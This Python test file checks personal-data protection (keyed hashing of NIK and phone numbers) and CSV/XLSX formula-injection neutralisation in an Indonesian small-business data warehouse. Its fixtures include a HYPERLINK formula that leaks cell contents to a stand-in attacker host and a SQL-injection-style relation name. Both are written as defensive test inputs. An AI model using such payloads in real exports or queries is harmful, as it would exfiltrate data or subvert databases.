"""Personal data (UU 27/2022) and formula injection: the curated and quality schemas hold no
NIK, phone, e-mail or owner name in the clear; NIK and phone appear only as HMAC keyed hashes;
text that looks like a formula is stored literally and neutralised in every export."""

from __future__ import annotations

import csv
import hashlib
import hmac
import re

import duckdb
import openpyxl
import pandas as pd
import pytest

from schemas.curated import PERSONAL_COLUMNS
from tests.conftest import query
from tests.wap_helpers import warehouse_url  # noqa: F401
from umkm.cli.export import main as export_main
from umkm.cli.export import neutralise_formulas, read_relation, write_export
from umkm.publish.warehouse import Publication, publish, read_table

TEST_KEY = b"test-only-key"  # the key tests.conftest.run_nightly sets
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "Toko = Berkah",
    "normal",
]


def _text_columns(warehouse, schemas=("curated", "quality")) -> dict[str, pd.Series]:
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        relations = con.execute(
            "SELECT schema_name || '.' || table_name FROM duckdb_tables() "
            f"WHERE schema_name IN {tuple(schemas)}"
        ).fetchall()
        columns = {}
        for (name,) in relations:
            frame = con.execute(f"SELECT * FROM {name}").df()
            for column in frame.columns:
                if not pd.api.types.is_numeric_dtype(
                    frame[column]
                ) and not pd.api.types.is_datetime64_any_dtype(frame[column]):
                    columns[f"{name}.{column}"] = frame[column].dropna().astype(str)
        return columns
    finally:
        con.close()


#: text that looks like a NIK, a mobile number or an e-mail address
LOOKS_PERSONAL = re.compile(r"\d{16}|(\+62|62|0)8\d{7,12}|[^@\s]+@[^@\s]+\.\w+")


def clear_personal_values(warehouse) -> set[str]:
    """Every owner name, NIK, phone and e-mail the restricted tables hold, and the keyed
    hashes of NIKs and phones (pseudonyms are personal data too)."""
    personal = query(warehouse, "SELECT * FROM restricted.source_record_personal_data")
    keys = query(warehouse, "SELECT * FROM restricted.umkm_owner_key")
    clear = set()
    for column in ("owner_name", "nik", "phone_e164", "phone_e164_alt", "email"):
        clear |= set(personal[column].dropna().astype(str))
    for column in ("owner_nik_hash", "owner_phone_hash"):
        clear |= set(keys[column].dropna().astype(str))
    return clear


@pytest.mark.slow
def test_curated_and_quality_hold_no_personal_data_in_the_clear(published):
    clear = clear_personal_values(published)
    assert len(clear) > 500  # the restricted schema does hold them
    looks_personal = LOOKS_PERSONAL.pattern
    columns = _text_columns(published)
    assert not PERSONAL_COLUMNS & {name.split(".")[-1] for name in columns}
    for name, values in columns.items():
        assert not values.isin(clear).any(), (name, values[values.isin(clear)].head(3).tolist())
        assert not values.str.fullmatch(looks_personal).any(), (
            name,
            values[values.str.fullmatch(looks_personal)].head(3).tolist(),
        )


def _hmac(value: str) -> str:
    return hmac.new(TEST_KEY, value.encode(), hashlib.sha256).hexdigest()


@pytest.mark.slow
def test_nik_and_phone_appear_only_as_keyed_hashes(published):
    umkm = query(
        published, "SELECT umkm_id, owner_nik_hash, owner_phone_hash FROM restricted.umkm_owner_key"
    )
    curated = query(
        published,
        "SELECT column_name FROM information_schema.columns WHERE table_schema = 'curated'",
    )["column_name"]
    assert not set(curated) & {"owner_nik_hash", "owner_phone_hash"}  # pseudonyms: restricted
    personal = query(
        published, "SELECT umkm_id, nik, phone_e164 FROM restricted.source_record_personal_data"
    )
    for column, hashed in (("nik", "owner_nik_hash"), ("phone_e164", "owner_phone_hash")):
        known = personal.dropna(subset=[column])
        assert umkm[hashed].notna().sum() > 100
        allowed = {(u, _hmac(v)) for u, v in zip(known["umkm_id"], known[column])}
        plain = {hashlib.sha256(v.encode()).hexdigest() for v in known[column]}
        with_hash = umkm.dropna(subset=[hashed])
        assert all((u, h) in allowed for u, h in zip(with_hash["umkm_id"], with_hash[hashed]))
        assert not set(with_hash[hashed]) & plain  # a plain hash could be brute-forced
        # every business with a known value carries its hash
        assert set(known["umkm_id"]) == set(with_hash["umkm_id"])


def test_formula_like_text_is_stored_literally(warehouse_url):
    frame = pd.DataFrame({"business_name": FORMULAS, "n": range(len(FORMULAS))})
    publish(warehouse_url, Publication(replace={"curated.sample": frame}))
    back = read_table(warehouse_url, "curated.sample").sort_values("n")
    assert back["business_name"].tolist() == FORMULAS


def test_neutralise_formulas_quotes_only_text_that_would_run():
    frame = pd.DataFrame(
        {"text": FORMULAS, "number": [-1.5] * len(FORMULAS), "missing": [None] * len(FORMULAS)}
    )
    safe = neutralise_formulas(frame)
    assert safe["text"].tolist() == ["'" + v for v in FORMULAS[:5]] + FORMULAS[5:]
    assert safe["number"].tolist() == frame["number"].tolist()
    assert safe["missing"].isna().all()
    assert frame["text"].tolist() == FORMULAS  # the input is left alone


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_neutralise_formulas(tmp_path, suffix):
    frame = pd.DataFrame({"business_name": FORMULAS, "platform_count": range(len(FORMULAS))})
    path = write_export(frame, tmp_path / f"export{suffix}")
    if suffix == ".csv":
        with path.open(newline="") as handle:
            rows = list(csv.reader(handle))[1:]
        cells = [row[0] for row in rows]
    else:
        sheet = openpyxl.load_workbook(path).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [row[0].value for row in sheet.iter_rows(min_row=2)]
        assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(range(len(FORMULAS)))
    assert cells == ["'" + v for v in FORMULAS[:5]] + FORMULAS[5:]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


@pytest.mark.slow
def test_export_command_writes_views_and_refuses_restricted_data(published, tmp_path):
    url = f"duckdb:///{published}"
    out = tmp_path / "online_without_nib.xlsx"
    export_main(["curated.v_online_without_nib", str(out), "--url", url])
    expected = query(
        published, "SELECT count(*) AS n FROM curated.umkm WHERE sells_online AND nib IS NULL"
    )["n"].iloc[0]
    assert openpyxl.load_workbook(out).active.max_row == expected + 1
    for forbidden in ("restricted.source_record_personal_data", "staging.x", "curated.umkm; --"):
        with pytest.raises(ValueError):
            read_relation(url, forbidden)
